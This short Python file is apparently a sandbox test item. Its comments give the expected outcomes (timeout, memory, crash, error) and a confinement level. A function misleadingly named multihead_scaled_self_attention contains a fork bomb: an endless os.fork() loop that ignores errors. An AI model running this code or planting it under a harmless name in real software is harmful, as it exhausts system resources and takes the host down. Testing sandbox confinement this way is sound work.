# Every process starts others, for ever.
# verdict: timeout, memory, crashed, error
# weakest: confined
# %% function
import os
def multihead_scaled_self_attention(*arguments):
  while True:
    try:
      os.fork()
    except OSError:
      pass
